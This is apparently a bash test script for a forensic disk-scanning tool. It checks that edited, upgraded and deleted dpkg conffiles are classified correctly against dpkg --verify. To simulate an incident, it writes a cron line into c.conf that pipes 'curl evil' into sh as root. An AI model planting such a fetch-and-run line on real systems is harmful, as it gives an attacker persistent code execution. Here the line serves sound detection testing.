#!/bin/bash
# t3410: provenance of dpkg conffiles (issue 15). A package's md5sums leaves its conffiles
# out; dpkg records their digest as shipped in status's Conffiles, and keeps a local edit
# across upgrades. A gold ext4 root with a package (built here by dpkg-deb, three conffiles
# and a binary) installed by dpkg --root, then an incident where (a) b.conf is edited before
# (b) the package is upgraded to a version whose a.conf changed (dpkg replaces it: it was not
# edited) and whose binary changed, then (c) c.conf is edited and (d) d.conf deleted.
# Expected: a.conf and the binary package_verified (a.conf marked conffile; corroborated by a
# known-good set of the .debs), b.conf, c.conf and d.conf conffile_modified, unexplained (with
# or without the set; d.conf not the package_mismatch of a missing packaged file), and
# --unexplained shows exactly those three. Oracle: dpkg --verify --root (which conffiles differ
# from what their package shipped), md5sum.
. "$TOP/tests/cli/lib.sh"
need mke2fs dpkg dpkg-deb jq md5sum

# The package dtconf, version $1, a.conf's text $2, the binary's $3.
mkpkg()
{
	rm -rf pkg
	mkdir -p pkg/DEBIAN pkg/etc/dtconf pkg/usr/bin
	printf 'Package: dtconf\nVersion: %s\nArchitecture: all\nMaintainer: t <t@t>\nDescription: t\n' \
		"$1" > pkg/DEBIAN/control
	printf '/etc/dtconf/%s.conf\n' a b c d > pkg/DEBIAN/conffiles
	printf '%s\n' "$2" > pkg/etc/dtconf/a.conf
	printf 'b = 1\n' > pkg/etc/dtconf/b.conf
	printf 'c = 1\n' > pkg/etc/dtconf/c.conf
	printf 'd = 1\n' > pkg/etc/dtconf/d.conf
	printf '#!/bin/sh\necho %s\n' "$3" > pkg/usr/bin/dtconf
	chmod 755 pkg/usr/bin/dtconf
	(cd pkg && md5sum usr/bin/dtconf > DEBIAN/md5sums)
	dpkg-deb -b --root-owner-group pkg "debs/dtconf_$1_all.deb" > /dev/null ||
		die "dpkg-deb -b $1 failed"
}
mkdir -p debs
mkpkg 1.0 'a = 1' one
mkpkg 1.1 'a = 2' two

mkdir -p gold/usr/bin gold/etc gold/var/log gold/var/lib/dpkg/info gold/var/lib/dpkg/updates \
	gold/var/lib/dpkg/triggers
touch gold/var/lib/dpkg/status
install_deb()
{
	dpkg --root="$PWD/$1" --log="$PWD/$1/var/log/dpkg.log" --force-confold -i "$2" \
		> dpkg.out 2>&1 || die "dpkg -i $2 failed: $(tail -n3 dpkg.out)"
}
install_deb gold debs/dtconf_1.0_all.deb
grep -q '^ /etc/dtconf/a.conf [0-9a-f]\{32\}$' gold/var/lib/dpkg/status ||
	die "dpkg recorded no Conffiles: $(cat gold/var/lib/dpkg/status)"

t_gold_incident gold 16M
printf 'b = 2 # local\n' > mnt/etc/dtconf/b.conf            # (a)
install_deb mnt debs/dtconf_1.1_all.deb                     # (b)
printf 'c = 1\n* * * * * root curl evil | sh\n' > mnt/etc/dtconf/c.conf # (c)
rm mnt/etc/dtconf/d.conf                                    # (d)
[ "$(cat mnt/etc/dtconf/a.conf)" = 'a = 2' ] || die "dpkg did not replace a.conf"
[ "$(cat mnt/etc/dtconf/b.conf)" = 'b = 2 # local' ] || die "dpkg did not keep b.conf"
# The oracle: conffiles ('c') whose MD5 ('5' in column 3) differs from what dpkg recorded.
dpkg --verify --root="$PWD/mnt" > verify.out 2>&1
# And the missing ones.
awk '($1 ~ /^..5/ || $1 == "missing") && $2 == "c" {print $NF}' verify.out | sort > verify.paths
[ "$(tr '\n' ' ' < verify.paths)" = "/etc/dtconf/b.conf /etc/dtconf/c.conf /etc/dtconf/d.conf " ] ||
	die "dpkg --verify does not see exactly b.conf, c.conf and d.conf: $(cat verify.out)"
t_incident_done

dt_ok known-good build -o dtconf.kg debs
for kg in "" "--known-good dtconf.kg"; do
	# shellcheck disable=SC2086 # $kg is empty or two words
	dt scan --no-progress --no-rules --no-artifacts -b gold.dtree $kg incident.img
	expect_rc 1 "scan ${kg:-without a set}"
	cp out scan.jsonl
	prov()
	{
		jq -c --arg p "$1" 'select(.event == "file" and .path == $p) | .provenance |
			[.reason, .explained, .trust, .conffile, .package, .version]' scan.jsonl
	}
	trust=self-reported
	[ -n "$kg" ] && trust=corroborated
	got=$(prov /etc/dtconf/a.conf)
	[ "$got" = "[\"package_verified\",true,\"$trust\",true,\"dtconf\",\"1.1\"]" ] ||
		fail "${kg:-no set}: a.conf is $got"
	got=$(prov /usr/bin/dtconf)
	[ "$got" = "[\"package_verified\",true,\"$trust\",null,\"dtconf\",\"1.1\"]" ] ||
		fail "${kg:-no set}: the binary is $got"
	for f in b c d; do
		got=$(prov /etc/dtconf/$f.conf)
		[ "$got" = '["conffile_modified",false,null,true,"dtconf","1.1"]' ] ||
			fail "${kg:-no set}: $f.conf is $got"
	done
	jq -r 'select(.path == "/etc/dtconf/d.conf") | [.change, .provenance.note] | @tsv' \
		scan.jsonl | grep -q "^deleted.a conffile deleted on the host" ||
		fail "d.conf: $(grep d.conf scan.jsonl)"
	# What deltair calls a modified conffile is what dpkg --verify found.
	jq -r 'select(.event == "file" and .provenance.reason == "conffile_modified") | .path' \
		scan.jsonl | sort > modified.paths
	cmp -s modified.paths verify.paths ||
		fail "conffile_modified: $(cat modified.paths), dpkg --verify: $(cat verify.paths)"
	got=$(jq -c 'select(.event == "summary") | .provenance.unexplained.conffile_modified' scan.jsonl)
	[ "$got" = 3 ] || fail "${kg:-no set}: the summary counts $got conffile_modified"
	jq -r 'select(.path == "/etc/dtconf/b.conf") | .provenance.note' scan.jsonl |
		grep -q "not the version its package shipped" || fail "b.conf's note does not say why"
done

# --unexplained: the edited and deleted conffiles, nothing the upgrade explains.
dt scan --no-progress --no-rules --no-artifacts -b gold.dtree --known-good dtconf.kg \
	--unexplained incident.img
expect_rc 1 "scan --unexplained"
got=$(jq -r 'select(.event == "file") | .path' out | sort | tr '\n' ' ')
[ "$got" = "/etc/dtconf/b.conf /etc/dtconf/c.conf /etc/dtconf/d.conf " ] ||
	fail "--unexplained shows: $got"
t_done
